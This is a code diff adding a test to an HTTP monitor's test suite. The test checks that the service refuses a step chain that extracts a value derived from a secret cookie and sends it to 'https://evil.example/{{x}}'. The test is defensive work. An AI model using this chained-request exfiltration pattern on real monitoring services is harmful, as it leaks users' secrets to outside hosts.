@@ -81,6 +81,21 @@ describe('the steps of an HTTP monitor', () => {
     expect(await refused({ variables: {} })).to.deep.equal(['http.steps.0.url', 'http.steps.0.body']);
   });
 
+  it('keep their secrets from where a later answer of their site would be sent, which may repeat them from a cookie', async () => {
+    const site = { name: 'Set', url: `${URL_OF_SHOP}set`, headers: { Cookie: 'geheim' } };
+    const { id, http } = await create({ steps: [site] });
+    const read = { name: 'Read', url: `${URL_OF_SHOP}read`, extract: { x: { from: 'json', expression: '$.x' } } };
+    const changed = (url: string) =>
+      update(id, { http: { steps: [...http.steps, read, { name: 'Out', url }] } }).catch(
+        (fault: Fault) => fault.details,
+      );
+    expect(await changed('https://evil.example/{{x}}')).to.have.nested.property(
+      '[0].path',
+      'http.steps.0.headers.Cookie',
+    );
+    expect(await changed(`${URL_OF_SHOP}{{x}}`)).to.have.property('id', id);
+  });
+
   it('are tested once with the secrets that are given, and never with those of a monitor', () => {
     const input = oneOffInputs({ egress: createEgressPolicy({ allowCidrs: [] }) }).ofType('HttpAvailability');
     expect(input.parse({ url: URL_OF_SHOP, http: HTTP }).target).to.have.nested.property(
